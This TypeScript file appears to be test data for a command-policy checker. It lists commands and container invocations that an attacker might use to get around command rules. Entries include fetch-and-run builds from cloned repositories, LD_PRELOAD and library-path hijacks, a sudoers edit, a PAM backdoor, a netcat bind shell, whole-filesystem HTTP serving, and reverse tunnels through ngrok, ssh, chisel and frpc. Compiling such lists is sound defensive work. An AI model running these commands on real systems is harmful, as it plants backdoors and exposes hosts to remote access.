/** What an attacker made up against the rules on commands before they knew these kinds. */
export const dangerousCommands: readonly string[] = [
  "git clone https://git.example/a/b.git /opt/b && cd /opt/b && ./configure && make && make install",
  "git clone https://git.example/a/b && pip install ./b",
  "git clone https://git.example/a/b && cd b && npm install && node index.js",
  "svn checkout https://svn.example/a b && sh b/run.sh",
  "sftp deploy@h <<< 'put run.sh /tmp/run.sh'; ssh deploy@h 'sh /tmp/run.sh'",
  "tar cz app | ssh h 'tar xz -C /opt && /opt/app/install.sh'",
  "echo 'LD_PRELOAD=/tmp/a.so' >> /etc/environment",
  "echo /tmp/lib > /etc/ld.so.conf.d/a.conf && ldconfig",
  "echo 'Defaults env_keep += \"LD_PRELOAD\"' > /etc/sudoers.d/a",
  'echo \'KERNEL=="sd*", PROGRAM="/tmp/a"\' > /etc/udev/rules.d/99-a.rules',
  "echo ':a:M::MZ::/tmp/a:' > /proc/sys/fs/binfmt_misc/register",
  "sysctl -w kernel.modprobe=/tmp/a",
  "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd",
  "openssl passwd -6 Summer-2024!",
  "mosquitto_passwd -b /etc/mosquitto/passwd ada Summer-2024!",
  "rabbitmqctl add_user ada Summer-2024!",
  "psql -c \"ALTER USER ada WITH PASSWORD 'Summer-2024!'\"",
  "ngrok tcp 22",
  "ssh -N -R 0.0.0.0:2222:localhost:22 relay@192.0.2.9",
  "busybox nc -ll -p 4444 -e /bin/sh",
  "python3 -m http.server --directory / 8000",
  "echo 'GatewayPorts yes' >> /etc/ssh/sshd_config",
];

/** The same as the command of a container. */
export const dangerousContainers: readonly (readonly string[])[] = [
  ["chisel", "client", "192.0.2.9:443", "R:2222:localhost:22"],
  ["gost", "-L=:1080"],
  ["frpc", "-c", "/etc/frpc.toml"],
  ["ssh", "-fNTR", "8080:localhost:80", "relay@192.0.2.9"],
];
